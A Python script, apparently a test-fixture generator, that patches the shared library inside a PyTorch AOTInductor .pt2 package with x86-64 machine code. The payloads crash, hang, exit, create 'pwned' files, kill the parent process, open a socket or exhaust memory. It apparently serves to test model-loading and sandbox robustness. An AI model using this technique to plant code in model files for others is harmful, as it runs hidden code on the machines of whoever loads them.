#!/usr/bin/env python3
"""hostile_so.py PACKAGE.pt2 : model libraries with other code in them than the compiler's, for x86-64.

Makes NAME.so (bare) and NAME.pt2 (with the text of the package) where NAME is WHERE_WHAT: WHERE is the function that is
overwritten (init: a static initialiser, create, run: those of the C interface), WHAT what it does now.
"""
import struct
import sys
import zipfile

PT_LOAD, PT_DYNAMIC, DT_RELA, DT_RELASZ, DT_INIT_ARRAY, R_RELATIVE = 1, 2, 7, 8, 25, 8
STRING = b"\x48\x8d\x3d%c\0\0\0"  # lea rdi, [rip + %c]


def syscall(number, *more):
    """mov eax, number; more; syscall"""
    return b"\xb8" + struct.pack("<I", number) + b"".join(more) + b"\x0f\x05"


def esi(n):
    return b"\xbe" + struct.pack("<I", n)


def edi(n):
    return b"\xbf" + struct.pack("<I", n)


def edx(n):
    return b"\xba" + struct.pack("<I", n)


RET = b"\xc3"
MKDIR = b"\xb8\x53\0\0\0\xbe\xed\x01\0\0\x0f\x05\xc3\x90"
CODE = {
    "crashes": b"\x0f\x0b",  # ud2
    "hangs": b"\xeb\xfe",  # jmp $
    "segfaults": b"\x31\xc0\x8b\x00",  # mov eax, [0]
    "overflows": b"\x50\xeb\xfd",  # push rax, for ever
    "exits": syscall(231, edi(0)),  # exit_group(0): not the same as success
    "creates": STRING % 15 + esi(0o644) + syscall(85) + RET + b"\x90\x90pwned\0",  # creat("pwned")
    "makes_folder": STRING % 14 + MKDIR + b"pwned\0",
    "writes": b"\x48\x8d\x35\x16\0\0\0" + edi(1) + edx(6) + syscall(1) + RET + b"\x90" * 4 + b"pwned\n",  # write(1, "pwned\n", 6)
    "kills": syscall(110) + b"\x89\xc7" + esi(15) + syscall(62) + RET,  # kill(getppid(), SIGTERM)
    "forks": syscall(57) + b"\xeb\xfe",  # and both hang
    "connects": edi(2) + esi(1) + edx(0) + syscall(41) + b"\x0f\x0b",  # socket(): then dies, so that it is seen
    "eats": esi(1 << 30) + b"\x31\xff\xba\3\0\0\0\x41\xba\x22\0\0\0\x49\x83\xc8\xff\x45\x31\xc9" + syscall(9) + b"\x48\x85\xc0\x79\xdb\x0f\x0b",  # mmap(1 GB) until it fails
}  # fmt: skip


class Elf:
    def __init__(self, data):
        self.data = bytearray(data)
        phoff, phnum = struct.unpack_from("<Q", data, 32)[0], struct.unpack_from("<H", data, 56)[0]
        self.segments = [struct.unpack_from("<IIQQQQQQ", data, phoff + 56 * i) for i in range(phnum)]

    def offset(self, address):
        for kind, _, offset, start, _, size, _, _ in self.segments:
            if kind == PT_LOAD and start <= address < start + size:
                return offset + address - start
        raise ValueError(hex(address))

    def dynamic(self):
        offset, size = next((s[2], s[5]) for s in self.segments if s[0] == PT_DYNAMIC)
        return dict(struct.unpack_from("<QQ", self.data, offset + i) for i in range(0, size, 16))

    def first_initialiser(self):
        d = self.dynamic()
        for i in range(0, d[DT_RELASZ], 24):
            where, info, addend = struct.unpack_from("<QQq", self.data, self.offset(d[DT_RELA]) + i)
            # The very first is frame_dummy of the C runtime; any will do.
            if where == d[DT_INIT_ARRAY] + 8 and info & 0xFFFFFFFF == R_RELATIVE:
                return addend
        raise ValueError("no static initialiser")

    def symbol(self, name):
        shoff, shnum = struct.unpack_from("<Q", self.data, 40)[0], struct.unpack_from("<H", self.data, 60)[0]
        sections = [struct.unpack_from("<IIQQQQIIQQ", self.data, shoff + 64 * i) for i in range(shnum)]
        table = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
        strings = sections[table[6]][4]
        for i in range(table[5] // 24):
            text, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", self.data, table[4] + 24 * i)
            at = strings + text
            if self.data[at:self.data.index(0, at)] == name.encode():
                return value
        raise ValueError(name)

    def patched(self, addresses, code):
        data = bytes(self.data)
        for at in map(self.offset, addresses):
            data = data[:at] + code + data[at + len(code):]
        return data


members = {i.filename: zipfile.ZipFile(sys.argv[1]).read(i) for i in zipfile.ZipFile(sys.argv[1]).infolist()}
name = next(n for n in members if n.endswith(".so"))
elf = Elf(members[name])
run = [elf.symbol(f"AOTInductorModelContainerRun{single}") for single in ("", "SingleThreaded")]
where = {"init": [elf.first_initialiser()], "create": [elf.symbol("AOTInductorModelContainerCreateWithDevice")], "run": run}
FEW = {"create": ("crashes",), "run": ("crashes", "exits", "creates", "writes", "kills", "connects")}
for place, addresses in where.items():
    for what, code in CODE.items():
        if what not in FEW.get(place, CODE):
            continue
        so = elf.patched(addresses, code)
        with open(f"{place}_{what}.so", "wb") as f:
            f.write(so)
        with zipfile.ZipFile(f"{place}_{what}.pt2", "w") as z:
            for n, data in members.items():
                z.writestr(n, so if n == name else data)
